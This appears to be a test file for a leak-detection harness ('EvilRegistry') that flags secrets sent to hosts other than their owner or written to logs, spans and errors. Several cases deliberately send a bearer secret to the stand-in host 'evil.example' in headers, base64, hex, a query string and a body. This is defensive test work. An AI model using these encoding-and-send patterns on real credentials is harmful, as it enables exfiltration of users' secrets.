import { NodeHttpClient } from "@effect/platform-node"
import { Agent, request } from "@effect/platform-node/Undici"
import * as HttpClient from "@effect/platform/HttpClient"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Layer, Tracer } from "effect"
import * as EvilRegistry from "../src/EvilRegistry.js"
import * as NodeEvilRegistry from "../src/NodeEvilRegistry.js"

type Evil = EvilRegistry.Watched

/** Sends a request to a site. */
const send = (
  evil: Evil,
  site: EvilRegistry.Site,
  options: { readonly path?: string; readonly headers?: Record<string, string>; readonly body?: string } = {}
) =>
  Effect.acquireUseRelease(
    Effect.sync(() => new Agent({ connect: { lookup: NodeEvilRegistry.lookup(evil), ca: evil.certificate } })),
    (dispatcher) =>
      Effect.promise(async () => {
        const { path = "/", ...rest } = options
        const method = rest.body === undefined ? "GET" : "PUT"
        const { body, statusCode } = await request(`${site.origin}${path}`, { dispatcher, method, ...rest })
        return `${statusCode} ${await body.text()}`
      }),
    (dispatcher) => Effect.promise(() => dispatcher.close())
  )

const ok: EvilRegistry.Script = () => ({ status: 200, body: "here" })

/** Creates a secret, its owner, and another site. `deliver` sends the secret to its owner. */
const network = (evil: Evil, options?: { readonly unsent?: string }) =>
  Effect.gen(function*() {
    const owner = yield* evil.site({ host: "registry.example" }, ok)
    const other = yield* evil.site({ host: "evil.example", tls: true }, ok)
    const secret = evil.secret(options)
    evil.belongs(secret, owner)
    const deliver = evil.run(send(evil, owner, { headers: { authorization: `Bearer ${secret}` } }))
    return { owner, other, secret, deliver }
  })

type Network = Effect.Effect.Success<ReturnType<typeof network>>

const leaks = (
  test: (network: Network, evil: Evil) => Effect.Effect<unknown, unknown>,
  options?: { readonly unsent?: string }
) =>
  EvilRegistry.EvilRegistry.pipe(
    Effect.flatMap((evil) => Effect.flatMap(network(evil, options), (created) => Effect.exit(test(created, evil)))),
    EvilRegistry.watched,
    Effect.match({ onFailure: ({ leaks }) => leaks, onSuccess: () => [] }),
    Effect.provide(NodeEvilRegistry.layer)
  )

it.scopedLive("reports no leak if a secret is sent only to its owner", () =>
  Effect.gen(function*() {
    expect(yield* leaks(({ deliver, other }, evil) => Effect.zipRight(deliver, send(evil, other)))).toEqual([])
  }))

const base64 = (text: string) => Buffer.from(text).toString("base64")

describe("EvilRegistry.watched reports", () => {
  const sentSecrets: ReadonlyArray<
    readonly [name: string, what: (secret: string) => Parameters<typeof send>[2], part: string]
  > = [
    [
      "in a header",
      (secret) => ({ headers: { authorization: `Bearer ${secret}` } }),
      "the header authorization of GET /"
    ],
    ["in base64", (secret) => ({ headers: { "x-a": `Basic ${base64(`a:${secret}`)}` } }), "the header x-a of GET /"],
    [
      "in base64, shifted by one byte",
      (secret) => ({ headers: { "x-a": base64(`ab:${secret}`) } }),
      "the header x-a of GET /"
    ],
    [
      "in base64, aligned",
      (secret) => ({ headers: { "x-a": base64(`abc${secret};`) } }),
      "the header x-a of GET /"
    ],
    ["in hex", (secret) => ({ headers: { "x-a": Buffer.from(secret).toString("hex") } }), "the header x-a of GET /"],
    ["in a query", (secret) => ({ path: `/?token=${secret}` }), "the URL of GET /?token="],
    ["in a body", (secret) => ({ body: `password=${secret}` }), "the body of PUT /"]
  ]
  it.scopedLive.each(sentSecrets)(
    "a secret that is sent to another site %s",
    ([, what, part]) =>
      Effect.gen(function*() {
        const found = yield* leaks(({ deliver, other, secret }, evil) =>
          Effect.zipRight(deliver, send(evil, other, what(secret)))
        )
        expect(found.length).toBe(1)
        expect(found[0]).toMatch(/^secret 1 was sent to https:\/\/evil\.example:\d+, which is not its owner: /)
        expect(found[0]).toContain(part)
      })
  )

  const writtenSecrets: ReadonlyArray<
    readonly [name: string, write: (secret: string, evil: Evil) => Effect.Effect<unknown, unknown>, source: string]
  > = [
    ["a log line", (secret) => Effect.logTrace(`got ${secret}`), "the log"],
    ["a log annotation", (secret) => Effect.annotateLogs(Effect.logDebug("got"), "token", secret), "the log"],
    ["a logged cause", (secret) => Effect.logError("failed", new Error(secret)), "the log"],
    ["a logged object", (secret) => Effect.logInfo({ deep: { in: [base64(secret)] } }), "the log"],
    ["the name of a span", (secret) => Effect.withSpan(Effect.void, `GET ${secret}`), "the name of a span"],
    [
      "an attribute of a span",
      (secret) => Effect.withSpan(Effect.void, "s", { attributes: { "url.full": `https://a/?${secret}` } }),
      "the attribute url.full of the span s"
    ],
    [
      "an event of a span",
      (secret) =>
        Effect.withSpan(
          Effect.flatMap(Effect.currentSpan, (span) => Effect.sync(() => span.event("e", 0n, { secret }))),
          "s"
        ),
      "an event of the span s"
    ],
    [
      "a link of a span",
      (secret) =>
        Effect.withSpan(
          Effect.linkSpanCurrent(Tracer.externalSpan({ spanId: "1", traceId: "1" }), { secret }),
          "s"
        ),
      "a link of the span s"
    ],
    ["the end of a span", (secret) => Effect.withSpan(Effect.fail(new Error(secret)), "s"), "the end of the span"],
    ["the message of an error", (secret, evil) => evil.run(Effect.fail(new Error(`no ${secret}`))), "an error"],
    [
      "the cause of an error",
      (secret, evil) => evil.run(Effect.fail(new Error("no", { cause: { headers: { authorization: secret } } }))),
      "an error"
    ],
    ["a defect", (secret, evil) => evil.run(Effect.die(Object.assign(new Error("no"), { secret }))), "an error"],
    ["a result", (secret, evil) => evil.run(Effect.succeed({ toJSON: () => secret })), "a result"],
    ["a value nested in a result", (secret, evil) => evil.run(Effect.succeed(new Map([["a", { secret }]]))), "a result"]
  ]
  it.scopedLive.each(writtenSecrets)("a secret in %s", ([, write, source]) =>
    Effect.gen(function*() {
      const found = yield* leaks(({ deliver, secret }, evil) => Effect.zipRight(deliver, write(secret, evil)))
      expect(found.length).toBeGreaterThan(0)
      for (const leak of found) expect(leak).toContain("secret 1 appears in ")
      expect(found.join("\n")).toContain(`appears in ${source}`)
    }))
})

it.scopedLive("reports that HttpClient.followRedirects sends credentials to another host", () =>
  Effect.gen(function*() {
    const found = yield* Effect.flatMap(EvilRegistry.EvilRegistry, (evil) =>
      Effect.gen(function*() {
        const secret = evil.secret()
        const other = yield* evil.site({ host: "127.0.0.1" }, ok)
        const owner = yield* evil.site({ host: "127.0.0.1" }, () => ({
          status: 307,
          headers: { location: `${other.origin}/there` }
        }))
        evil.belongs(secret, owner)
        const http = HttpClient.followRedirects(yield* HttpClient.HttpClient)
        const answer = http.get(owner.origin, { headers: { authorization: `Bearer ${secret}` } })
        yield* evil.run(Effect.flatMap(answer, ({ text }) => text))
      })).pipe(
        EvilRegistry.watched,
        Effect.flip,
        Effect.provide([NodeEvilRegistry.layer, NodeHttpClient.layerUndici])
      )
    expect(found.message).toMatch(
      /^secret 1 was sent to http:\/\/127\.0\.0\.1:\d+, .*: the header authorization of GET \/there$/
    )
  }))

describe("EvilRegistry.watched fails", () => {
  it.scopedLive("if a secret is sent to none of its owners and `unsent` is missing", () =>
    Effect.gen(function*() {
      const nothing = (_: Network, evil: Evil) => evil.run(Effect.void)
      expect(yield* leaks(nothing)).toEqual([
        "secret 1 was sent to none of its owners, and the test gives no reason (unsent)"
      ])
      expect(yield* leaks(nothing, { unsent: "the realm is refused" })).toEqual([])
    }))

  it.scopedLive("if a secret is sent to its owner although `unsent` is set", () =>
    Effect.gen(function*() {
      expect(yield* leaks(({ deliver }) => deliver, { unsent: "the realm is refused" })).toEqual([
        "secret 1 was sent to its owner, but the test says that it is not sent: the realm is refused"
      ])
    }))

  it.scopedLive("if the test runs no effect or creates no secret", () =>
    Effect.gen(function*() {
      expect(yield* leaks(({ owner, secret }, evil) => send(evil, owner, { body: secret }))).toEqual([
        "the test ran no effect with EvilRegistry.run"
      ])
      const empty = yield* Effect.void.pipe(
        EvilRegistry.watched,
        Effect.flip,
        Effect.provide(Layer.fresh(NodeEvilRegistry.layer))
      )
      expect(empty.leaks).toContain("the test created no secret")
    }))

  it.scopedLive("with the failure of the test before the leaks", () =>
    Effect.gen(function*() {
      const failed = yield* Effect.fail(new Error("expected 1 to be 2")).pipe(
        EvilRegistry.watched,
        Effect.flip,
        Effect.provide(NodeEvilRegistry.layer)
      )
      expect(failed.message).toContain("expected 1 to be 2")
    }))
})
